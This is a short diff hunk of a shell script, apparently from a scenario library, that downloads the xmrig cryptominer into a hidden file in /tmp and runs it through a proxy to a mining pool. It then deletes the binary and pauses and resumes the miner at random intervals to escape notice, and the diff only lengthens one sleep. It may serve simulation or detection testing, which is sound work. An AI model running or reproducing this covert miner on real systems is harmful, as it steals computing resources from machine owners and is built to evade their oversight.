@@ -2,7 +2,7 @@
 . /opt/corpus/scenarios/lib.sh
 fetch xmrig /tmp/.perf; chmod +x /tmp/.perf
 /tmp/.perf $POOL_ARGS --proxy="$HOST:1080" &
-miner=$!; sleep 20; rm -f /tmp/.perf
+miner=$!; sleep 60; rm -f /tmp/.perf
 while kill -0 $miner; do
   touch /tmp/.login; [ -e /tmp/.login ] && kill -STOP $miner; sleep $((10 + RANDOM % 10))
   rm -f /tmp/.login; kill -CONT $miner; sleep $((10 + RANDOM % 12))
